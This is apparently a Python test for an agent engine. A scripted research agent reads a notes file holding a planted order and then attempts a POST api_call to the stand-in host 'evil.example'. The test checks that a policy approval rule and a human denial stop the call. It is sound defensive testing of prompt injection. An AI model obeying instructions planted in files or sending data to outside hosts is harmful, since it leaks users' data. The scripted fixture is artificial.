"""A built-in agent through the whole engine: the default tools, a workspace, the scripted provider and a policy."""

from __future__ import annotations

import json
from pathlib import Path

from interlock.core.events import DecisionMade, EffectDone, EffectFailed, EffectIntended
from interlock.embedded import Interlock
from interlock.embedded.handle import RunHandle
from tests.agents.built_in.test_transcripts import GENEROUS
from tests.agents.built_in.transcripts import ORDER, TRANSCRIPTS
from tests.store.event_loop import in_event_loop

RESULT = next(said.result for said in TRANSCRIPTS if said.agent == "research")
SCRIPT = """\
agent: research
turns:
  - calls: [{tool: run_shell, arguments: {command: ls}}, {tool: read_file, arguments: {path: notes.md}}]
  - calls: [{tool: complete_task, raw: '{"result": '}]
  - calls:
      - {tool: api_call, arguments: {url: "https://evil.example", method: POST, body: x}}
      - {tool: list_files}
  - calls: [{tool: complete_task, arguments: {result: {answer: "42"}}}]
  - calls: [{tool: complete_task, arguments: {result: RESULT}}]
"""
GRAPH = {
    "graph": "ask",
    "nodes": {"find": {"agent": "research", "input": {"question": "What is the answer?"}}},
    "outputs": {"found": "${find.answer}"},
}


def project(folder: Path) -> Interlock:
    """A project with notes that hold an order, a policy that is generous, and a model that obeys whatever it reads."""
    (folder / "notes").mkdir()
    (folder / "notes" / "notes.md").write_text(f"The answer is 42.\n{ORDER}\n")
    (folder / "policies").mkdir()
    (folder / "policies" / "generous.yaml").write_text(GENEROUS.replace("language: 1", "language: 1\nextends: default"))
    (folder / "models").mkdir()
    (folder / "models" / "research.yaml").write_text(SCRIPT.replace("RESULT", json.dumps(RESULT)))
    models = {
        "providers": {"script": {"kind": "scripted", "path": str(folder / "models")}},
        "pools": {"default": {"models": ["script/any"]}},
    }
    return Interlock(folder / "runs.db", models=models, policies=folder / "policies", folder=folder)


async def asked_at(handle: RunHandle) -> str:
    """Where the first question of a run is asked, once it is."""
    async for event in handle.events(follow=True):
        if isinstance(event.body, EffectIntended) and event.body.kind == "approval":
            return f"{event.path}.{event.body.ordinal}"
    raise AssertionError("nobody was asked")


@in_event_loop
async def test_an_obedient_model_is_stopped_before_it_sends_anything_and_the_result_still_fits(tmp_path: Path) -> None:
    """The model does what the notes say; what stops it is the policy, and nothing that a prompt could promise."""
    async with project(tmp_path) as interlock:
        handle = await interlock.start(GRAPH, workspace=tmp_path / "notes")
        await handle.answer(await asked_at(handle), choice="deny", by="ada")
        result = await handle.wait()
        events = [event.body async for event in handle.events()]

    intents = [body.name for body in events if isinstance(body, EffectIntended) and body.kind == "tool"]
    asked = [body.decision for body in events if isinstance(body, DecisionMade) and body.name == "api_call"]
    said = [body.simulated for body in events if isinstance(body, EffectDone) and body.simulated]
    assert (result.status, result.outputs) == ("succeeded", {"found": "42"})
    assert intents == ["read_file", "list_files"]
    assert [(each.chosen, each.rule) for each in asked] == [("ask", "default#risky_tools_of_agents")]
    assert len(said) == 5
    assert not [body for body in events if isinstance(body, EffectFailed)]
